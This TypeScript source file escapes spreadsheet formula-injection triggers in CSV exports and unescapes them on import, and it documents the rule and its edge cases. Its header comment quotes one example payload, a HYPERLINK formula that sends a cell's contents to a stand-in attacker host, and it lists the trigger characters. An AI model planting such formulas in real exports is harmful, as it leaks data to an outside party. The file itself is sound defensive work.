/**
 * Spreadsheet formula injection (OWASP "CSV Injection", CWE-1236): Excel, LibreOffice and Google
 * Sheets run a cell that starts with `=`, `+`, `-` or `@` as a formula (OWASP adds a leading tab
 * or CR, which some of them skip before looking). A lead named `=HYPERLINK("https://evil.test?"&A2)`
 * in an export would run when the file is opened. OWASP's remedy is a leading `'`, which makes
 * the spreadsheet take the cell as text; every CSV `crm` writes gets it unless --raw.
 *
 * Triggers: OWASP's `=` `+` `-` `@` tab CR; NUL, which ASVS 5 (1.2.10) adds (a reader that drops
 * it sees what follows); and the full-width `＝` `＋` `－` `＠`, which East Asian input methods turn
 * into the ASCII ones as a cell is typed: not seen to run from a file, but not ruled out for every
 * application either. Escaping one cell too many costs nothing on import (the rule below is
 * exactly invertible) and only a text marker in a spreadsheet; missing one runs code.
 *
 * Exception: a cell that is a plain negative number (`-12.5`, `-3`, `-1e-7`, as JavaScript
 * writes numbers) is left alone: a spreadsheet reads it as the number it is, no formula can be
 * written that way, and `'-12.5` would turn a number column into text.
 *
 * The rule, so that the import reads back exactly what was exported:
 *   escape:   a cell that starts with a trigger, or with one or more `'` followed by a trigger,
 *             gets one more `'` in front (plain negative numbers excepted);
 *   unescape: a cell that starts with one or more `'` followed by a trigger loses its first `'`.
 * A value that really starts with `'=` is therefore written `''=`, and read back as `'=`.
 * unescape(escape(s)) === s for every s (property-tested in test/unit/formula-cells.test.ts).
 */
const QUOTE = 0x27; // '

// A table for the ASCII ones (all below 'A'), so the common cell costs one comparison and one load.
const ASCII_TRIGGERS = new Uint8Array(0x41);
for (const c of ['=', '+', '-', '@', '\t', '\r', '\0']) ASCII_TRIGGERS[c.charCodeAt(0)] = 1;
const FULL_WIDTH_TRIGGERS = ['＝', '＋', '－', '＠'].map((c) => c.charCodeAt(0));

function isTrigger(code: number): boolean {
  return code < 0x41 ? ASCII_TRIGGERS[code] === 1 : code >= 0xff0b && FULL_WIDTH_TRIGGERS.includes(code);
}

/** How JavaScript writes a negative number (String(-12.5)); nothing else that starts with `-`. */
const PLAIN_NEGATIVE_NUMBER = /^-\d+(?:\.\d+)?(?:e[-+]\d+)?$/;

/** Whether the cell starts with `'`* then a trigger: the cells the rule is about. */
function quotesThenTrigger(cell: string): boolean {
  let at = 0;
  while (cell.charCodeAt(at) === QUOTE) at++;
  return isTrigger(cell.charCodeAt(at));
}

/** The cell written so that a spreadsheet takes it as text. Called for every cell written: one charCodeAt for most. */
export function escapeFormula(cell: string): string {
  const first = cell.charCodeAt(0);
  if (first !== QUOTE && !isTrigger(first)) return cell;
  if (!quotesThenTrigger(cell) || PLAIN_NEGATIVE_NUMBER.test(cell)) return cell;
  return `'${cell}`;
}

/** The value an escaped cell stands for (the inverse of escapeFormula). */
export function unescapeFormula(cell: string): string {
  return cell.charCodeAt(0) === QUOTE && quotesThenTrigger(cell) ? cell.slice(1) : cell;
}

/** The same for every cell of a row, in place (rows are read once and not shared). */
export function unescapeRow(values: string[]): string[] {
  for (let i = 0; i < values.length; i++) {
    if (values[i]!.charCodeAt(0) === QUOTE) values[i] = unescapeFormula(values[i]!);
  }
  return values;
}
